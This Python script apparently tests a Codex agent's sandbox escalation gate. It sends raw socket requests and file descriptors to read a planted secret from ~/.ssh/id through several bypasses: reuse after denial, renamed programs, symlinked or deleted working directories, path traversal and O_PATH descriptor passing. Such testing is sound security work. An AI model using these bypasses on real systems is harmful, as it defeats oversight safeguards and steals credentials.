"""Asks the gate by hand, on the session's socket, for what no wrapper would."""

import json
import os
import socket
import struct
import sys

from attack import SECRET, main

SESSION = int(os.environ.get("CODEX_ESCALATE_SOCKET", "-1"))
HIDDEN = os.environ["HOME"] + "/.ssh"


def frame(message):
    text = json.dumps(message).encode()
    return struct.pack("<I", len(text)) + text


def send(stream, message, descriptors=()):
    rights = (socket.SOL_SOCKET, socket.SCM_RIGHTS, struct.pack(f"{len(descriptors)}i", *descriptors))
    stream.sendmsg([frame(message)], [rights] if descriptors else [])


def receive(stream):
    def exactly(length):
        read = b""
        while len(read) < length:
            more = stream.recv(length - len(read))
            if not more:
                return b""
            read += more
        return read
    prefix = exactly(4)
    return json.loads(exactly(struct.unpack("<I", prefix)[0]) or "{}") if prefix else {}


def handshake(datagram=b"\0", count=1):
    """The stream of a new request."""
    ours, theirs = socket.socketpair()
    rights = (socket.SOL_SOCKET, socket.SCM_RIGHTS, struct.pack("i", theirs.fileno()) * count)
    session = socket.socket(fileno=os.dup(SESSION))
    session.sendmsg([datagram], [rights] if count else [])
    theirs.close()
    ours.settimeout(50)
    return ours


def request(file, argv, workdir=None, env=None):
    return {"file": file, "argv": argv, "workdir": workdir or os.getcwd(), "env": env or {"PATH": "/usr/bin:/bin"}}


def run(file, argv, workdir=None, env=None, inputs=None, after=None, regardless=False):
    """What the command prints, if it's escalated, or if that doesn't matter to who asks."""
    stream = handshake()
    send(stream, request(file, argv, workdir, env))
    answer = receive(stream)
    print(file, argv, answer, flush=True)
    if answer.get("action") != "Escalate" and not regardless:
        return b""
    reader, writer = os.pipe()
    context = {} if after is None else {"workdir_follows": True}
    stdin = os.open("/dev/null", os.O_RDONLY) if inputs is None else inputs
    try:
        send(stream, {"fds": [0, 1], "context": context}, [stdin, writer])
        if after is not None:
            send(stream, {"workdir": True}, [after])
    except (BrokenPipeError, ConnectionResetError):
        pass
    os.close(writer)
    print(receive(stream), flush=True)
    with os.fdopen(reader, "rb") as output:
        return output.read()


def ask():
    """`ask NAME=VALUE... -- FILE ARGUMENT...`: with these variables, whatever a shell makes of them."""
    at = sys.argv.index("--")
    env = {"PATH": "/usr/bin:/bin", **dict(pair.split("=", 1) for pair in sys.argv[2:at])}
    command = sys.argv[at + 1:]
    stream = handshake()
    send(stream, request(command[0], command, env=env))
    print(receive(stream), flush=True)
    send(stream, {"fds": [0, 1, 2]}, [0, 1, 2])
    print(receive(stream), flush=True)
    return True


def after_denial():
    """What was denied is answered as if it hadn't been."""
    return SECRET in run("/bin/cat", ["cat", HIDDEN + "/id"], regardless=True)


def another_name():
    """A program that isn't escalated, in the name of one that is with any file."""
    return SECRET in run("/bin/cat", ["readlink", HIDDEN + "/id"])


def another_directory():
    """The working directory is one that the rule admits, and what is handed over is another."""
    os.mkdir("gone")
    gone = os.getcwd() + "/gone (deleted)"
    os.rmdir("gone")
    try:
        there = os.open(HIDDEN, os.O_PATH)
    except OSError:
        there = os.open("/", os.O_PATH)
    if SECRET in run("/bin/cat", ["cat", "id"], gone, after=there):
        return True
    return SECRET in run("/bin/cat", ["cat", "id"], HIDDEN)


def directory_up():
    """A directory whose name looks like one that the rule admits, and leads elsewhere."""
    around = os.getcwd() + "/../../home/.ssh"
    return SECRET in run("/bin/cat", ["cat", "id"], around) or SECRET in run("/bin/cat", ["cat", "id"], HIDDEN)


def linked_directory():
    os.symlink(HIDDEN, "link")
    return SECRET in run("/bin/cat", ["cat", "id"], os.getcwd() + "/link") or SECRET in run("/bin/cat", ["cat", "id"], HIDDEN)


def place():
    """A descriptor of a place, which can't be read here, for a command outside that opens it again."""
    place = os.open(HIDDEN + "/id", os.O_PATH)
    if SESSION < 0:
        with open("said", "wb") as said:
            os.posix_spawn("/bin/cat", ["cat", "/dev/stdin"], {}, file_actions=[
                (os.POSIX_SPAWN_DUP2, place, 0), (os.POSIX_SPAWN_DUP2, said.fileno(), 1)])
            os.wait()
        return SECRET in open("said", "rb").read()
    return SECRET in run("/bin/cat", ["cat", "/dev/stdin"], inputs=place)


def own_program(path):
    return lambda: SECRET in run(path(), ["uname"])


main({
    "ask": ask,
    "after_denial": after_denial,
    "another_name": another_name,
    "another_directory": another_directory,
    "directory_up": directory_up,
    "linked_directory": linked_directory,
    "place": place,
    "own_program": own_program(lambda: os.getcwd() + "/uname"),
    "own_program_around": own_program(lambda: "/usr/bin/../.." + os.getcwd() + "/uname"),
    "own_program_here": own_program(lambda: "uname"),
})
